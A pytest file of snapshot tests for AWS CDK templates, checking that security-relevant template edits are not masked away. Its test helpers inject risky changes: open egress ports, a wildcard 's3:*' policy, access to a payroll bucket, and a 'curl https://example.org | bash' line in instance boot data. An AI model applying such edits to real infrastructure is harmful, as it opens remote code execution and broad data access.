"""Each template as it was last reviewed. ``make snapshots`` accepts what is now, and git shows the difference."""

import copy
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from aws_cdk import App
from syrupy.assertion import SnapshotAssertion
from syrupy.extensions.json import JSONSnapshotExtension

from stacks import calculate_mean_stack
from stacks.application import default_context, define_stacks
from stacks.streamlit_settings import StreamlitSettings
from tests.stacks.conftest import Synthesis
from tests.stacks.masking import masked
from tests.stacks.variants import BOTH, VARIANTS
from tests.templates import Json, machine_of, only, properties, resources

Synthesize = Callable[[str], Synthesis]
REVIEWED = [(variant, stack) for variant, chosen in VARIANTS.items() for stack in chosen.changes]
UNCHANGED = [(variant, stack) for variant, chosen in VARIANTS.items() for stack in BOTH if stack not in chosen.changes]


@pytest.mark.parametrize(("variant", "stack"), REVIEWED, ids=[f"{stack}-{variant}" for variant, stack in REVIEWED])
def test_template(synthesis: Synthesize, snapshot: SnapshotAssertion, variant: str, stack: str) -> None:
    assert masked(synthesis(variant).template(stack)) == snapshot.use_extension(JSONSnapshotExtension)


@pytest.mark.parametrize(("variant", "stack"), UNCHANGED)
def test_settings_leave_the_other_stack_as_it_is(synthesis: Synthesize, variant: str, stack: str) -> None:
    found, default = synthesis(variant).template(stack), synthesis("default").template(stack)
    for template in (found, default):
        # Which says what was told, also of what is no part of a template.
        del template["Outputs"]["Settings"]

    assert masked(found) == masked(default)


def test_the_handler_may_change_without_a_new_review(
    synthesis: Synthesize, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(
        calculate_mean_stack, "SOURCE", changed_copy(calculate_mean_stack.SOURCE, "handler.py", tmp_path)
    )
    before, after = synthesis("default").template("CalculateMean"), template_with({}, "CalculateMean", tmp_path)

    assert after != before
    assert masked(after) == masked(before)


def test_the_app_may_change_without_a_new_review(synthesis: Synthesize, tmp_path: Path) -> None:
    changed = str(changed_copy(StreamlitSettings.read({}).app, "app.py", tmp_path))
    before, after = synthesis("default").template("Streamlit"), template_with({"app": changed}, "Streamlit", tmp_path)

    assert json.loads(after["Outputs"].pop("Settings")["Value"]) == {"app": changed}
    assert json.loads(before["Outputs"].pop("Settings")["Value"]) == {}
    assert after != before
    assert masked(after) == masked(before)


def changed_copy(folder: Path, file: str, tmp_path: Path) -> Path:
    changed = shutil.copytree(folder, tmp_path / "changed")
    with (changed / file).open("a") as code:
        code.write("# changed\n")
    return changed


def template_with(settings: dict[str, str], stack: str, tmp_path: Path) -> Json:
    app = App(context=default_context() | settings, outdir=str(tmp_path / "cdk.out"))
    define_stacks(app)
    template: Json = app.synth().get_stack_by_name(stack).template
    return template


def open_the_door(template: Json) -> None:
    rules = properties(template, "AWS::EC2::SecurityGroup")["SecurityGroupEgress"]
    rules[0]["ToPort"] = 65535


def widen_a_policy(template: Json) -> None:
    policy = next(iter(resources(template, "AWS::IAM::Policy").values()))["Properties"]["PolicyDocument"]
    policy["Statement"][0]["Action"] = "s3:*"


def read_another_bucket(template: Json) -> None:
    policy = properties(template, "AWS::IAM::Policy")["PolicyDocument"]
    policy["Statement"][0]["Resource"].append("arn:aws:s3:::payroll/*")


def drop_the_signal(template: Json) -> None:
    del only(template, "AWS::EC2::Instance")["CreationPolicy"]


def change_the_boot(template: Json) -> None:
    machine_of(template)["UserData"]["Fn::Base64"]["Fn::Join"][1].append("curl https://example.org | bash\n")


def rename_a_route(template: Json) -> None:
    next(iter(resources(template, "AWS::ApiGatewayV2::Route").values()))["Properties"]["RouteKey"] = "$default"


def drop_a_route(template: Json) -> None:
    del template["Resources"][next(iter(resources(template, "AWS::ApiGatewayV2::Route")))]


@pytest.mark.parametrize(
    ("stack", "edit"),
    [
        ("Streamlit", open_the_door),
        ("Streamlit", widen_a_policy),
        ("Streamlit", read_another_bucket),
        ("Streamlit", drop_the_signal),
        ("Streamlit", change_the_boot),
        ("CalculateMean", widen_a_policy),
        ("CalculateMean", rename_a_route),
        ("CalculateMean", drop_a_route),
    ],
)
def test_what_matters_may_not(synthesis: Synthesize, stack: str, edit: Callable[[Json], None]) -> None:
    before = synthesis("default").template(stack)
    after = copy.deepcopy(before)
    edit(after)

    assert masked(after) != masked(before)
